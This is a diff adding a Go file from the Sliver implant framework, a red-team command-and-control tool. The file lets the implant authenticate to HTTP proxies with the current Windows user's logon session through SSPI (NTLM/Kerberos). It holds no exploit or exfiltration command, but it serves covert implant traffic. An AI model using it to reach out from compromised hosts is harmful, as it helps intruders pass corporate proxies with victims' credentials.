@@ -0,0 +1,115 @@
+package httpclient
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	// The current user's logon session can authenticate to the proxy
+	currentUserProxyAuth = true
+)
+
+// sspiAuthenticator - Authenticate as the current user with SSPI, the SSPI
+// package names match the http auth schemes
+type sspiAuthenticator struct {
+	target     *uint16
+	credential syscalls.SecHandle
+	context    syscalls.SecHandle
+	hasContext bool
+}
+
+func sspiProxyAuthenticator(scheme string, proxyHost string) (proxyAuthenticator, error) {
+	pkg, err := windows.UTF16PtrFromString(scheme)
+	if err != nil {
+		return nil, err
+	}
+	// Kerberos needs the proxy's spn, NTLM ignores it
+	target, err := windows.UTF16PtrFromString("HTTP/" + proxyHost)
+	if err != nil {
+		return nil, err
+	}
+	auth := &sspiAuthenticator{target: target}
+	var expiry int64
+	status := syscalls.AcquireCredentialsHandleW(nil, pkg, syscalls.SECPKG_CRED_OUTBOUND, 0, 0, 0, 0, &auth.credential, &expiry)
+	if status != syscalls.SEC_E_OK {
+		return nil, fmt.Errorf("AcquireCredentialsHandle failed (0x%08x)", status)
+	}
+	return auth, nil
+}
+
+func (a *sspiAuthenticator) Next(challenge []byte) ([]byte, error) {
+	var context *syscalls.SecHandle
+	var input *syscalls.SecBufferDesc
+	if a.hasContext {
+		if len(challenge) == 0 {
+			return nil, ErrProxyAuthFailed
+		}
+		context = &a.context
+		input = &syscalls.SecBufferDesc{
+			Version:      syscalls.SECBUFFER_VERSION,
+			BuffersCount: 1,
+			Buffers: &syscalls.SecBuffer{
+				BufferSize: uint32(len(challenge)),
+				BufferType: syscalls.SECBUFFER_TOKEN,
+				Buffer:     &challenge[0],
+			},
+		}
+	}
+	outputBuffer := &syscalls.SecBuffer{BufferType: syscalls.SECBUFFER_TOKEN}
+	output := &syscalls.SecBufferDesc{
+		Version:      syscalls.SECBUFFER_VERSION,
+		BuffersCount: 1,
+		Buffers:      outputBuffer,
+	}
+	var contextAttr uint32
+	var expiry int64
+	status := syscalls.InitializeSecurityContextW(&a.credential, context, a.target,
+		syscalls.ISC_REQ_ALLOCATE_MEMORY|syscalls.ISC_REQ_CONNECTION, 0, syscalls.SECURITY_NATIVE_DREP,
+		input, 0, &a.context, output, &contextAttr, &expiry)
+	switch status {
+	case syscalls.SEC_E_OK, syscalls.SEC_I_CONTINUE_NEEDED:
+	case syscalls.SEC_I_COMPLETE_NEEDED, syscalls.SEC_I_COMPLETE_AND_CONTINUE:
+		if status := syscalls.CompleteAuthToken(&a.context, output); status != syscalls.SEC_E_OK {
+			return nil, fmt.Errorf("CompleteAuthToken failed (0x%08x)", status)
+		}
+	default:
+		return nil, fmt.Errorf("InitializeSecurityContext failed (0x%08x)", status)
+	}
+	a.hasContext = true
+	if outputBuffer.Buffer == nil {
+		return []byte{}, nil
+	}
+	defer syscalls.FreeContextBuffer(outputBuffer.Buffer)
+	token := make([]byte, outputBuffer.BufferSize)
+	copy(token, unsafe.Slice(outputBuffer.Buffer, outputBuffer.BufferSize))
+	return token, nil
+}
+
+func (a *sspiAuthenticator) Close() {
+	if a.hasContext {
+		syscalls.DeleteSecurityContext(&a.context)
+	}
+	syscalls.FreeCredentialsHandle(&a.credential)
+}